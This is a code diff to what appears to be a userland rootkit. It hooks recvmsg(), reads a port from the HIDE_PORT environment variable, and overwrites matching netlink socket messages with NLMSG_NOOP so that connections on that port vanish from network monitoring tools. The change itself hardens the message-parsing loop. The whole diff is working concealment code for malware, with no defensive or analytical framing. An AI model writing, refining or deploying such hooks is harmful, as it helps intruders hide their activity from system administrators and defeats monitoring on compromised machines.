@@ -64,14 +64,18 @@ ssize_t recvmsg(int fd, struct msghdr *header, int flags)
 {
     const char *port = getenv("HIDE_PORT");
     ssize_t length = NEXT(recvmsg)(fd, header, flags);
-    struct nlmsghdr *message = length > 0 ? header->msg_iov[0].iov_base : NULL;
-    int left = (int)length;
+    char *bytes = header->msg_iov[0].iov_base;
+    size_t at = 0;
 
-    if (!port || !message)
-        return length;
-    for (; NLMSG_OK(message, left); message = NLMSG_NEXT(message, left))
+    while (port && length > 0 && at + NLMSG_HDRLEN <= (size_t)length) {
+        struct nlmsghdr *message = (struct nlmsghdr *)(void *)(bytes + at);
+
+        if (message->nlmsg_len < NLMSG_HDRLEN)
+            break;
         if (is_hidden(message, (uint16_t)strtoul(port, NULL, 10)))
             message->nlmsg_type = NLMSG_NOOP;
+        at += NLMSG_ALIGN(message->nlmsg_len);
+    }
     return length;
 }
 
